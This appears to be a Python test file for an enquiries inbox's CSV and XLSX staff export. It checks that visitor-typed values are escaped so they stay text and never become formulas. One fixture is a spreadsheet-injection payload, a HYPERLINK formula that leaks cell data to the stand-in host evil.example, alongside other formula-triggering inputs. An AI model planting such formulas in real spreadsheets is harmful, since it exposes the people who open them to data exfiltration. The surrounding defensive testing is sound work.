"""The staff's CSV and XLSX of the inbox: what visitors typed stays text in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import openpyxl

from heza_geo.enquiries import staffexport
from heza_geo.enquiries.model import Enquiry, Event

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for the site plan")'
T0 = datetime(2026, 5, 4, 9, 0, tzinfo=UTC)


def inbox() -> list[Enquiry]:
    return [Enquiry(uuid="0b8f1f8e-0000-4000-8000-000000000001", name="@SUM(1+1)", company=ATTACK, email="a@b.vn",
                    phone="+84 225 3823 000", message="-2+3\nline two", country="KR", sector="electronics",
                    land_ha=12.5, timeframe="undecided", parks=("A",), submitted_at=T0, status="contacted",
                    history=(Event(T0, "enquirer", "submitted"), Event(T0, "lan", "note", "\tcalled back"))),
            Enquiry(uuid="0b8f1f8e-0000-4000-8000-000000000002", name="Lê Văn Hùng", company="Công ty Tân Cảng",
                    email="hung@example.vn", submitted_at=T0, status="new")]


def test_the_csv_is_utf8_with_a_bom_and_neutralises_formulas():
    raw = staffexport.to_csv(inbox(), "vi")
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0]["Công ty"] == "'" + ATTACK
    assert rows[0]["Họ tên"] == "'@SUM(1+1)" and rows[0]["Nội dung"] == "'-2+3\nline two"
    assert rows[0]["Điện thoại"] == "'+84 225 3823 000"  # a leading + would be read as a formula too
    assert rows[0]["Trạng thái"] == "Đã liên hệ" and rows[0]["Diện tích cần (ha)"] == "12.5"
    assert rows[1]["Công ty"] == "Công ty Tân Cảng"


def test_the_xlsx_holds_strings_never_formulas_and_numbers_stay_numbers():
    book = openpyxl.load_workbook(io.BytesIO(staffexport.to_xlsx(inbox(), "ko")))
    sheet = book.active
    assert sheet.title == "문의"
    header = [cell.value for cell in sheet[1]]
    first = dict(zip(header, list(sheet[2]), strict=True))
    assert first["회사"].value == "'" + ATTACK and first["회사"].data_type == "s"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert first["필요 면적 (ha)"].value == 12.5
    assert first["내부 메모"].value == "2026-05-04 09:00 lan: \tcalled back"  # the cell starts with its date
    assert "session_hash" not in header and "address_hash" not in header
